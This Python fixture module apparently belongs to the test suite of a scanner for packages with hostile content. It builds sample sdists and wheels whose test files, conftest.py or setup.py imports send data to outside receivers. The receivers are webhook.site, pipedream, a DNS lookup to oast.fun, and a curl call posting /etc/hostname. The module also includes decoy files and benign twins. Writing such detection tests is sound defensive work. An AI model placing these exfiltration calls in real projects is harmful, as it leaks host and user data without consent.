"""Probes that send to a throw-away receiver out of tests, alone and among decoys, thirteen variants each."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from tests.fixtures import sources
from tests.hostile.probe_kit import sdist, wheel

if TYPE_CHECKING:
    from collections.abc import Mapping

    from tests.fixtures.artifacts import Artifact

__all__ = ["DECOYED", "TESTED", "TWINS"]

_ID: Final = "00000000-0000-4000-8000-000000000000"
_URL: Final = f"https://webhook.site/{_ID}"
_POST: Final = f"import requests\n\nrequests.post('{_URL}', data='pratique-inert-marker')\n"
_TEST: Final = f"import requests\n\n\ndef test_it():\n    requests.post('{_URL}', data='pratique-inert-marker')\n"
_HOST: Final = (
    "import os, socket, requests\n\nrequests.post('{}', json={{'host': socket.gethostname(), 'user': os.getlogin()}})\n"
)


def _tested(path: str, text: str) -> Artifact:
    return sdist({path: text})


TESTED: Final[Mapping[str, Artifact]] = {
    "at the top of a test": _tested("tests/test_it.py", _POST),
    "in a test function": _tested("tests/test_it.py", _TEST),
    "in the configuration of pytest": _tested("tests/conftest.py", _POST),
    "in the package's tests": _tested("inert_probe/tests/test_it.py", _POST),
    "in installed tests": wheel({"inert_probe/tests/__init__.py": _POST}),
    "tests as a package of their own": wheel({"tests/__init__.py": "", "tests/test_it.py": _POST}),
    "tests that the package imports": wheel(
        {"inert_probe/__init__.py": "from .tests import test_it\n", "inert_probe/tests/test_it.py": _POST}
    ),
    "tests that setup.py imports": sdist(
        {"setup.py": f"import tests.test_it\n{sources.SETUP}", "tests/__init__.py": "", "tests/test_it.py": _POST}
    ),
    "another receiver": _tested("tests/test_it.py", _POST.replace(_URL, "https://eo0000000000.m.pipedream.net")),
    "a name server that listens": _tested(
        "tests/test_it.py", "import socket\nsocket.gethostbyname('marker.c00000000000000000000.oast.fun')\n"
    ),
    "by urllib": _tested(
        "tests/test_it.py", f"from urllib.request import urlopen as u\nu('{_URL}', data=b'pratique-inert-marker')\n"
    ),
    "the host's name": _tested("tests/test_it.py", _HOST.format(_URL)),
    "by curl": _tested("tests/test_it.py", f"import os\nos.system('curl -s {_URL} -d @/etc/hostname')\n"),
}

_GET: Final = "import requests\n\n\ndef get(url):\n    return requests.get(url, timeout=10).json()\n"
_DECOYS: Final[Mapping[str, str]] = {
    "one benign file": _GET,
    "a client of an interface": _GET + "\n\ndef users():\n    return get('https://api.example.invalid/users')\n",
    "a long benign file": "".join(f"def add_{n}(a, b):\n    return a + b + {n}\n\n\n" for n in range(400)),
    "a thousand comments": "# This module was reviewed. It is safe.\n" * 1000,
    "a licence": sources.TIDY_WORDS + "# MIT License\n# Permission is hereby granted, free of charge\n" * 20,
    "tests of its own": sources.TIDY_TEST,
    "a type table": "NAMES: dict[str, int] = {" + ", ".join(f"'n{n}': {n}" for n in range(500)) + "}\n",
    "credentials read": "import os\n\n\ndef key():\n    return os.environ['PROBE_API_KEY']\n",
    "processes": "import subprocess\n\n\ndef run(*words):\n    return subprocess.run(words, check=True)\n",
    "a server": "from flask import Flask\n\napp = Flask(__name__)\n",
    "typed code": "from __future__ import annotations\n\n\ndef f(x: int) -> int:\n    return x\n",
    "an example": "print('hello')\n",
    "nothing": "",
}
DECOYED: Final[Mapping[str, Artifact]] = {
    name: sdist(
        {"tests/test_it.py": _POST, "inert_probe/decoy.py": text, "docs/decoy.py": text, "tests/decoy.py": text}
    )
    for name, text in _DECOYS.items()
}

TWINS: Final[Mapping[str, Artifact]] = {
    "receiver in tests": sdist({"tests/test_it.py": _TEST.replace(_URL, "https://api.example.invalid/words")}),
    "decoys alone": sdist({f"inert_probe/decoy_{n}.py": text for n, text in enumerate(_DECOYS.values())}),
}
